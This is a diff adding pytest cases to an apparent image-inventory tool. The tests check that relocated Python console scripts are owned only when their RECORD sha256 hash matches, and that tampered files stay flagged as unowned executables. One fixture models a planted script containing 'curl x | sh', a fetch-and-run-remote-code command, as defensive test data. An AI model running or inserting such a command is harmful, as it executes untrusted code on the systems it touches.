@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import stat
 
+import pytest
 from analyze.elfgen import make_elf
 from binary_image import Member, inventory_of
 
@@ -93,3 +96,53 @@ def test_records_carry_layer_digest_facts_and_owner(tmp_path):
 def test_files_owned_through_merged_usr_symlinks_are_not_reported(tmp_path):
     inventory = inventory_of(tmp_path, [_base()])
     assert [r.path for r in inventory.files] == ["usr/bin/passwd"]
+
+
+SITE = "usr/local/lib/python3.11/dist-packages"
+SCRIPT = b"#!/usr/bin/python3\nimport sys\nfrom tool.cli import main\nsys.exit(main())\n"
+
+
+def _record_hash(data: bytes) -> str:
+    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+
+
+def _moved_script(record_hash: str, found: bytes) -> list[Member]:
+    """A dist whose RECORD says `../../bin/tool` (pip --target's staging layout, which
+    resolves to usr/local/lib/bin/tool here) while the image holds usr/local/bin/tool."""
+    info = f"{SITE}/tool-1.0.dist-info"
+    record = f"tool/cli.py,,\n../../bin/tool,{record_hash},1\n"
+    return [
+        Member(f"{info}/METADATA", b"Metadata-Version: 2.1\nName: tool\nVersion: 1.0\n"),
+        Member(f"{info}/RECORD", record.encode()),
+        Member(f"{SITE}/tool/cli.py", b"def main():\n    return 0\n"),
+        Member("usr/local/bin/tool", found, mode=0o755),
+    ]
+
+
+@pytest.mark.parametrize("content", [SCRIPT, make_elf()], ids=["script", "elf"])
+def test_moved_console_script_with_record_hash_is_owned(tmp_path, content):
+    inventory = inventory_of(tmp_path, [_base(), _moved_script(_record_hash(content), content)])
+    assert [r.path for r in inventory.files] == ["usr/bin/passwd"]
+    [tool] = [p for p in inventory.packages if p.name == "tool"]
+    assert tool.files[1:] == ("usr/local/bin/tool",)
+
+
+PLANTED = SCRIPT.replace(b"sys.exit(main())", b"import os; os.system('curl x | sh')")
+
+
+@pytest.mark.parametrize(
+    ("record_hash", "found"),
+    [
+        (_record_hash(SCRIPT), PLANTED),  # same name, other content
+        (_record_hash(SCRIPT), SCRIPT.replace(b"/usr/bin/python3", b"/usr/bin/python")),
+        ("sha256=", b"\x00no analyzer claims this"),  # no digest on either side
+        (_record_hash(SCRIPT).replace("sha256", "md5"), SCRIPT),  # not a sha256 we have
+    ],
+    ids=["other_content", "shebang_edited", "empty_hash", "other_algorithm"],
+)
+def test_same_name_without_the_record_hash_stays_unowned(tmp_path, record_hash, found):
+    inventory = inventory_of(tmp_path, [_base(), _moved_script(record_hash, found)])
+    by_path = {r.path: r for r in inventory.files}
+    assert by_path["usr/local/bin/tool"].kinds == ("unowned-executable",)
+    [tool] = [p for p in inventory.packages if p.name == "tool"]
+    assert tool.files[1:] == ("usr/local/lib/bin/tool",)
